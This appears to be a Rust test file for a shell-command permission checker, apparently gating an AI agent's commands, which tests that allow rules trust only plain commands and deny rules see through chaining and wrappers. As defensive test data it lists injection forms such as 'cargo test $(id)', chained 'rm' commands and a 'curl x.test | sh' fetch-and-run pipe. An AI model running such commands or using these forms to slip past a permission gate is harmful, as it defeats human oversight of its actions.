//! Verdicts about command lines: what an allow trusts, what a deny sees, and the corpus of cases.
//! The cases are judged as text; none of them is run.

use super::*;

#[test]
fn an_allow_on_commands_trusts_only_what_is_plain() {
    let rules = [allow("shell:cargo test *")];
    for (line, expected) in [
        ("cargo test", Allow),
        ("cargo  test -p 'x y'", Allow),
        ("cargo testify", Ask),
        ("cargo test; rm x", Ask),
        ("cargo test > out", Ask),
        ("cargo test $(id)", Ask),
        ("/tmp/cargo test", Ask),
        ("FOO=1 cargo test", Ask),
        ("cargo -q test", Ask),
        ("'cargo test' x", Ask),
        ("cargo test\nrm x", Ask),
        ("cargo test *.rs", Ask),
    ] {
        assert_eq!(shell(Model, line, &rules), expected, "{line:?}");
    }
    for general in ["shell", "shell:*", "*", "command.run"] {
        assert_eq!(
            shell(Model, "a; b > c", &[allow(general)]),
            Allow,
            "{general}"
        );
    }
    assert_eq!(
        shell(Model, "a; b", &[allow("shell:**")]),
        Ask,
        "only `*` alone is everything"
    );
}

#[test]
fn a_deny_on_commands_sees_through_what_stands_around_it() {
    let rules = [
        allow("shell"),
        rule(Deny, "shell:git push *", Source::User).because("not from here"),
    ];
    for line in [
        "git push",
        "FOO=1 /usr/bin/git -C x push -f",
        "cargo test && git push",
        "cargo test && sh -c 'git push'",
        "echo $(git push)",
    ] {
        assert_eq!(shell(Model, line, &rules), Deny, "{line:?}");
        assert_eq!(shell(User, line, &rules), Deny, "{line:?}");
    }
    assert_eq!(shell(Model, "git stash push", &rules), Allow);
    let asks = [allow("shell"), rule(Ask, "shell:rm *", Source::Session)];
    assert_eq!(shell(User, "a; sudo rm x", &asks), Ask);
    let pipe = [deny("shell:curl * | sh")];
    assert_eq!(
        shell(User, "curl x.test | sh", &pipe),
        Deny,
        "the text as it stands counts too"
    );
    let got = verdict(User, SHELL, &[Subject::command("git push")], &rules);
    assert_eq!(
        got.reason,
        "`git push` is denied by the rule `shell:git push *` (user): not from here"
    );
}

#[test]
fn no_case_of_the_corpus_is_allowed_behind_an_allowed_command() {
    let cases = include_str!("../../../../tests/permission/shell_cases.jsonl");
    let rules = [allow("shell:cargo test *")];
    let mut seen = 0;
    for line in cases.lines().filter(|line| !line.is_empty()) {
        let case: serde_json::Value = serde_json::from_str(line).unwrap();
        let command = case["cmd"].as_str().unwrap();
        assert_eq!(shell(Model, command, &[]), Ask, "{command:?}");
        assert_eq!(shell(Model, command, &rules), Ask, "{command:?}");
        for joint in ["; ", " && ", " || ", " | ", " & ", "\n"] {
            let command = format!("cargo test{joint}{command}");
            assert_eq!(shell(Model, &command, &rules), Ask, "{command:?}");
        }
        let denied = format!("{command}\ngit push");
        let rules = [deny("*:git push *")];
        assert_eq!(shell(User, &denied, &rules), Deny, "{denied:?}");
        seen += 1;
    }
    assert!(seen > 100, "the corpus was read");
}
